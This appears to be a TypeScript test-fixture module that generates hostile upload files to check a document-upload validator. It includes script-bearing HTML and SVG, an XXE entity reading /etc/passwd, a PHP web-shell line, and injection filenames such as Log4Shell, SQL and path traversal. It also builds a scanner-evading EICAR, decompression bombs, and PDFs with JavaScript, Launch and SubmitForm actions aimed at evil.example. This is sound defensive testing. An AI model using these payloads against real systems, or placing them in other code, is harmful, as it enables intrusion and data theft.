import { deflateSync, gzipSync } from "node:zlib";
import { PDFDocument } from "@cantoo/pdf-lib";
import sharp from "sharp";
import { UPLOAD_LIMIT } from "@/lib/uploads/policy";
import { pdf, picture, sidewaysPhoto } from "@/tests/samples/documents";
import { bomb, pngChunk } from "@/tests/samples/png";
import { sampleJpeg, samplePdf, samplePng } from "@/tests/samples/uploads";
import { type Chance, chance } from "./chance";

/** A file as somebody sends it, and what has to come of it. */
export type Hostile = {
  /** Which kind of attack it is, for the log. */
  about: string;
  name: string | Buffer;
  type: string;
  bytes: Buffer;
  /** "refused", "taken", or "either" where both are right as long as nothing of it is harmful as it is served. */
  must: "refused" | "taken" | "either";
};

/** Stands in whatever must not survive; no picture that is served may hold it. */
export const MARK = "zzpassenger";

const TYPES: Record<string, string> = {
  pdf: "application/pdf",
  png: "image/png",
  jpg: "image/jpeg",
  jpeg: "image/jpeg",
};
const SCRIPT = `<script>alert("${MARK}")</script>`;
const text = (content: string, encoding: BufferEncoding = "utf8") => Buffer.from(content, encoding);
const hex = (digits: string, more = "") => Buffer.concat([Buffer.from(digits, "hex"), text(more)]);

/** EICAR's test file, put together here so that no scanner stops at this source. */
const eicar = () =>
  text(["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-", "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join(""), "latin1");

/** What is no document at all, under the names and types of documents. */
const STRANGERS: Record<string, () => Buffer> = {
  html: () => text(`<!doctype html><html>${SCRIPT}</html>`),
  "html in UTF-16": () => text(`\ufeff<html>${SCRIPT}`, "utf16le"),
  svg: () => text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
  "xml with an entity": () =>
    text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
  script: () => text(`alert("${MARK}")`),
  php: () => text("<?php system($_GET['c']); ?>"),
  shell: () => text("#!/bin/sh\nid\n"),
  "windows program": () => hex("4d5a90000300000004000000ffff0000", "This program cannot be run in DOS mode."),
  "linux program": () => hex("7f454c46020101000000000000000000"),
  "java class": () => hex("cafebabe00000034"),
  gif: () => hex("474946383961010001008000000000000000002c00000000010001000002024401003b"),
  webp: () => hex("52494646240000005745425056503820", "x"),
  bmp: () => hex("424d3a000000000000003600000028000000", "x"),
  tiff: () => hex("49492a0008000000", "x"),
  heic: () => hex("000000186674797068656963", "x"),
  avif: () => hex("0000001c6674797061766966", "x"),
  zip: () => hex("504b0304140000000800", "x"),
  "gzip of a PDF": () => gzipSync(samplePdf()),
  postscript: () => text("%!PS-Adobe-3.0\n(zz) show\n"),
  eicar,
};

/** Names that mean something to a shell, a disk, a header or a screen. */
const NAMES: (string | Buffer)[] = [
  ...[
    "../../../etc/passwd.",
    "..\\..\\boot.",
    "/etc/cron.d/x.",
    "con.",
    "aux.",
    ".htaccess.",
    "a.exe.",
    "a.php.",
    "-rf.",
  ],
  ...[
    "<img src=x onerror=alert(1)>.",
    "\u202egpj.exe.",
    "a%00.exe.",
    "a\u0000.exe.",
    "${jndi:ldap://x}.",
    "'; DROP TABLE x;--.",
  ],
  ...[
    "पासपोर्ट.",
    "a".repeat(5000) + ".",
    "🙂".repeat(300) + ".",
    "\ufeffa.",
    "a b\tc.",
    "a;filename*=utf-8''x.exe.",
    "~$a.",
    "a.\u200b",
  ],
  Buffer.from("ffc0c1fe2e", "hex"),
];

const jpegPart = (marker: number, content: string) => {
  const body = text(content, "latin1");
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([head, body]);
};
/** Puts parts right behind the first two bytes of a JPEG. */
const withParts = (jpeg: Buffer, ...parts: Buffer[]) =>
  Buffer.concat([jpeg.subarray(0, 2), ...parts, jpeg.subarray(2)]);
/** Puts parts behind the head of a PNG. */
const withChunks = (png: Buffer, ...chunks: Buffer[]) =>
  Buffer.concat([png.subarray(0, 33), ...chunks, png.subarray(33)]);

/** A JPEG that says it has these many pixels. */
function boasting(jpeg: Buffer, width: number, height: number) {
  const own = Buffer.from(jpeg);
  const at = own.findIndex((byte, place) => byte === 0xff && [0xc0, 0xc2].includes(own[place + 1]!));
  own.writeUInt16BE(height, at + 5);
  own.writeUInt16BE(width, at + 7);
  return own;
}

/** Inserts objects into a PDF before its table, and moves the table. */
function withObjects(objects: string, inTrailer = "") {
  const plain = samplePdf().toString("latin1");
  const at = plain.indexOf("xref\n");
  const moved = plain
    .replace("trailer\n<<", `trailer\n<< ${inTrailer}`)
    .replace(/startxref\n\d+/, `startxref\n${at + objects.length}`);
  return text(moved.slice(0, at) + objects + moved.slice(at), "latin1");
}

async function encrypted(userPassword: string, useObjectStreams: boolean) {
  const document = await PDFDocument.create();
  document.addPage([420, 595]).drawText("secret");
  document.encrypt({ userPassword, ownerPassword: "owner" });
  return Buffer.from(await document.save({ useObjectStreams }));
}

/** Units that a PDF can be filled with, so that what looks for one of them finds very many. */
const UNITS = [
  ...["t", "trailer", "trailer<<", "trailer<<(", "xref", "startxref 1", "<<", "/Encrypt", "obj", "1 0 obj", "stream"],
  ...["endstream", "(", "%", "\0", "%%EOF", "[", "/#45", "<", "\n"],
];
export const paddedPdf = (unit: string, size = UPLOAD_LIMIT) =>
  Buffer.concat([text("%PDF-1.4\n"), Buffer.alloc(Math.max(0, size - 16), unit, "latin1"), text("\n%%EOF\n")]);

function* strangers(): Generator<Hostile> {
  for (const [what, make] of Object.entries(STRANGERS))
    for (const extension of ["pdf", "png", "jpg", "jpeg"])
      for (const type of [TYPES[extension]!, "application/octet-stream"])
        yield { about: `${what} as ${extension}`, name: `a.${extension}`, type, bytes: make(), must: "refused" };
}

/** A real document under the name or the type of something else: taken as what its bytes are, and as nothing else. */
function* disguised(real: Record<string, Buffer>): Generator<Hostile> {
  for (const [extension, bytes] of Object.entries(real)) {
    for (const end of ["exe", "svg", "html", "gif", "webp", "pdf.exe", "", "jp"])
      yield {
        about: `a real ${extension} named .${JSON.stringify(end)}`,
        name: `a.${end}`,
        type: TYPES[extension]!,
        bytes,
        must: "taken",
      };
    yield {
      about: `a real ${extension} with a zero byte in its name`,
      name: "a.pdf\u0000",
      type: TYPES[extension]!,
      bytes,
      must: "refused",
    };
    for (const [other, type] of Object.entries(TYPES)) {
      if (type === TYPES[extension]) continue;
      yield { about: `a real ${extension} as ${other}`, name: `a.${other}`, type, bytes, must: "taken" };
      yield { about: `a real ${extension} declared ${other}`, name: `a.${extension}`, type, bytes, must: "taken" };
    }
    for (const type of ["text/html", "image/svg+xml", "application/x-msdownload"])
      yield { about: `a real ${extension} declared ${type}`, name: `a.${extension}`, type, bytes, must: "taken" };
    for (const name of NAMES) {
      const whole = typeof name === "string" ? name + extension : Buffer.concat([name, text(extension)]);
      yield { about: `an odd name of a ${extension}`, name: whole, type: TYPES[extension]!, bytes, must: "either" };
    }
  }
}

function* broken(real: Record<string, Buffer>, { below }: Chance): Generator<Hostile> {
  for (const [extension, bytes] of Object.entries(real)) {
    const file = { name: `a.${extension}`, type: TYPES[extension]! };
    for (let part = 1; part <= 20; part += 1)
      yield {
        ...{ ...file, about: `a ${extension} cut at ${part * 4} %`, must: "refused" },
        bytes: bytes.subarray(0, Math.floor((bytes.length * part) / 25)),
      };
    for (let time = 0; time < 30; time += 1) {
      const bent = Buffer.from(bytes);
      for (let flips = 1 + below(8); flips > 0; flips -= 1) bent[8 + below(bent.length - 8)] = below(256);
      yield { ...file, about: `a ${extension} with bent bytes`, must: "either", bytes: bent };
    }
  }
}

async function* passengers(jpeg: Buffer, png: Buffer, isShort: boolean): AsyncGenerator<Hostile> {
  const unpacked = Buffer.alloc(isShort ? 1_000_000 : 100_000_000, "a");
  const riders: Record<string, Buffer> = {
    html: text(`<html>${SCRIPT}`),
    pdf: Buffer.concat([samplePdf(), text(`%${MARK}`)]),
    zip: hex("504b0304140000000800", MARK),
    php: text(`<?php echo "${MARK}"; ?>`),
    eicar: Buffer.concat([eicar(), text(MARK)]),
  };
  for (const [what, rider] of Object.entries(riders)) {
    yield {
      about: `a jpg with ${what} behind it`,
      name: "a.jpg",
      type: TYPES.jpg!,
      bytes: Buffer.concat([jpeg, rider]),
      must: "either",
    };
    yield {
      about: `a png with ${what} behind it`,
      name: "a.png",
      type: TYPES.png!,
      bytes: Buffer.concat([png, rider]),
      must: "either",
    };
    yield {
      about: `${what} before a PDF`,
      name: "a.pdf",
      type: TYPES.pdf!,
      bytes: Buffer.concat([rider, samplePdf()]),
      must: what === "pdf" ? "either" : "refused",
    };
  }
  const words = `${MARK} ${SCRIPT}`;
  for (const [what, bytes] of Object.entries({
    comment: withParts(jpeg, jpegPart(0xfe, words)),
    "a comment that ends it for others": withParts(jpeg, jpegPart(0xfe, `*/=alert("${MARK}");/*`)),
    Exif: withParts(jpeg, jpegPart(0xe1, `Exif\0\0II*\0${words}`)),
    XMP: withParts(jpeg, jpegPart(0xe1, `http://ns.adobe.com/xap/1.0/\0<x>${words}</x>`)),
    IPTC: withParts(jpeg, jpegPart(0xed, `Photoshop 3.0\x008BIM${words}`)),
    profile: withParts(jpeg, jpegPart(0xe2, `ICC_PROFILE\0\x01\x01${words}`)),
    "many comments": withParts(jpeg, ...Array.from({ length: 100 }, () => jpegPart(0xfe, words))),
  }))
    yield { about: `a jpg with ${what}`, name: "a.jpg", type: TYPES.jpg!, bytes, must: "either" };
  const packed = (content: string | Buffer) => Buffer.concat([text("Comment\0\0", "latin1"), deflateSync(content)]);
  for (const [what, bytes] of Object.entries({
    tEXt: withChunks(png, pngChunk("tEXt", text(`Comment\0${words}`))),
    zTXt: withChunks(png, pngChunk("zTXt", packed(words))),
    iTXt: withChunks(png, pngChunk("iTXt", text(`Comment\0\0\0\0\0${words}`))),
    eXIf: withChunks(png, pngChunk("eXIf", text(`II*\0${words}`))),
    profile: withChunks(png, pngChunk("iCCP", packed(words))),
    "a part of its own": withChunks(png, pngChunk("zzZz", text(words))),
    "a profile that unpacks": withChunks(png, pngChunk("iCCP", packed(unpacked))),
    "a text that unpacks": withChunks(png, pngChunk("zTXt", packed(unpacked))),
    "five hundred texts": withChunks(png, ...Array.from({ length: 500 }, () => pngChunk("tEXt", text(`a\0${words}`)))),
  }))
    yield { about: `a png with ${what}`, name: "a.png", type: TYPES.png!, bytes, must: "either" };
  for (const [what, head] of Object.entries({ gif: "GIF89a", html: "<html>", svg: "<svg>", script: "/*", bmp: "BM" }))
    yield {
      about: `${what} before a jpg`,
      name: "a.jpg",
      type: TYPES.jpg!,
      bytes: Buffer.concat([text(head), jpeg]),
      must: "refused",
    };
}

function* floods(jpeg: Buffer, isShort: boolean): Generator<Hostile> {
  const png = (about: string, bytes: Buffer): Hostile => ({
    about,
    name: "a.png",
    type: TYPES.png!,
    bytes,
    must: "refused",
  });
  for (const edge of isShort ? [8000] : [8000, 12_000, 20_000, 65_500])
    yield png(`a png of ${edge} × ${edge} pixels`, bomb(edge));
  yield png("a png in passes of 12000 × 12000 pixels", bomb(12_000, { interlaced: true }));
  yield png("a png of 1 × 2147483647 pixels", bomb(2_147_483_647, { width: 1 }));
  yield png("a png of no pixels", bomb(0));
  for (const [width, height] of [
    [65_500, 65_500],
    [65_500, 1000],
    [30_000, 2000],
  ] as const)
    yield {
      about: `a jpg that says ${width} × ${height}`,
      name: "a.jpg",
      type: TYPES.jpg!,
      bytes: boasting(jpeg, width, height),
      must: "refused",
    };
  yield {
    about: "a jpg that says 0 × 0",
    name: "a.jpg",
    type: TYPES.jpg!,
    bytes: boasting(jpeg, 0, 0),
    must: "either",
  };
}

/** PDFs that act, hide, or unpack to very much; none is opened here, and each goes out as a download only. */
async function* pdfs(isShort: boolean): AsyncGenerator<Hostile> {
  const file = { name: "a.pdf", type: TYPES.pdf! };
  for (const streams of [true, false]) {
    yield { ...file, about: "a PDF with a password", bytes: await encrypted("RAME1999", streams), must: "refused" };
    yield { ...file, about: "a PDF with an owner's password", bytes: await encrypted("", streams), must: "taken" };
  }
  for (const [about, inTrailer] of Object.entries({
    "by hand": "/Encrypt 9 0 R",
    "with escapes": "/#45ncryp#74 9 0 R",
    "behind a string": "/ID [(a\\)b(c)<<) <3e3e>] /Encrypt 9 0 R",
    "as a dictionary": "/Encrypt << /Filter /Standard >>",
  }))
    yield { ...file, about: `encrypted ${about}`, bytes: withObjects("", inTrailer), must: "refused" };
  for (const act of [
    "/S /JavaScript /JS (app.alert(1))",
    "/S /Launch /F (cmd.exe)",
    "/S /URI /URI (javascript:alert(1))",
    "/S /SubmitForm /F (http://evil.example)",
    "/S /GoToR /F (\\\\\\\\evil.example\\\\x)",
    "/S /ImportData /F (x)",
  ])
    yield {
      ...file,
      about: `a PDF that acts: ${act.slice(0, 16)}`,
      bytes: withObjects(`9 0 obj\n<< ${act} >>\nendobj\n`, "/OpenAction 9 0 R"),
      must: "taken",
    };
  yield {
    ...file,
    about: "a PDF with a file in it",
    bytes: withObjects(`9 0 obj\n<< /Type /EmbeddedFile /Length 3 >>\nstream\nMZx\nendstream\nendobj\n`),
    must: "taken",
  };
  let nested: Buffer = deflateSync(Buffer.alloc(isShort ? 1_000_000 : 50_000_000));
  nested = deflateSync(nested);
  const body = nested.toString("latin1");
  yield {
    ...file,
    about: "a PDF that unpacks twice",
    bytes: withObjects(
      `9 0 obj\n<< /Filter [/FlateDecode /FlateDecode] /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj\n`,
    ),
    must: "taken",
  };
  yield {
    ...file,
    about: "a PDF with EICAR in it",
    bytes: withObjects(`9 0 obj\n<< /Length 68 >>\nstream\n${eicar().toString("latin1")}\nendstream\nendobj\n`),
    must: "either",
  };
  for (const unit of UNITS)
    for (const size of isShort ? [50_000] : [50_000, 200_000, UPLOAD_LIMIT])
      yield {
        ...file,
        about: `a PDF of ${size} bytes of ${JSON.stringify(unit)}`,
        bytes: paddedPdf(unit, size),
        must: "either",
      };
}

/**
 * Every hostile file of a seed: more than five hundred. They are made as they are asked for, since some are large.
 * @param isShort leaves out what takes long to make
 */
export async function* hostileFiles(seed: number, isShort: boolean): AsyncGenerator<Hostile> {
  const draw = chance(seed);
  const [jpg, png] = [await sampleJpeg(), await samplePng()];
  const grain = { type: "gaussian" as const, mean: 140, sigma: 30 };
  const noise = sharp({ create: { width: 300, height: 200, channels: 3, background: "#fff", noise: grain } });
  const [noisyJpg, noisyPng] = [await noise.clone().jpeg().toBuffer(), await noise.clone().png().toBuffer()];
  yield* strangers();
  yield* disguised({ pdf: samplePdf(), png, jpg });
  yield* broken({ pdf: samplePdf(5000), png: noisyPng, jpg: noisyJpg }, draw);
  yield* passengers(jpg, png, isShort);
  yield* floods(jpg, isShort);
  yield* pdfs(isShort);
}

/** A hundred files as students have them. */
export async function* goodFiles(seed: number, isShort: boolean): AsyncGenerator<Hostile> {
  const { below, pick } = chance(seed);
  const good = (name: string, type: string, bytes: Buffer): Hostile => ({
    about: "a good file",
    name,
    type,
    bytes,
    must: "taken",
  });
  for (let at = 0; at < (isShort ? 8 : 100); at += 1) {
    const name = pick(["pan card", "आधार", "Form 16 (2025-26)", "marks.sheet", "IMG_2026", "O'Neill"]);
    if (at === 0 && !isShort) {
      const phone = await sidewaysPhoto();
      yield good(phone.name, phone.mimeType, phone.buffer);
    } else if (at % 4 === 0)
      yield good(
        `${name}.PDF`,
        pick(["application/pdf", "application/octet-stream"]),
        samplePdf(1000 + below(2_000_000)),
      );
    else if (at % 4 === 1) yield good(`${name}.pdf`, "application/pdf", (await pdf(`page ${at}`, 1 + below(5))).buffer);
    else if (at % 4 === 2)
      yield good(`${name}.jpg`, pick(["image/jpeg", "image/jpg"]), (await picture(`photo ${at}`, "jpeg")).buffer);
    else yield good(`${name}.png`, "image/png", (await picture(`scan ${at}`, "png")).buffer);
  }
}
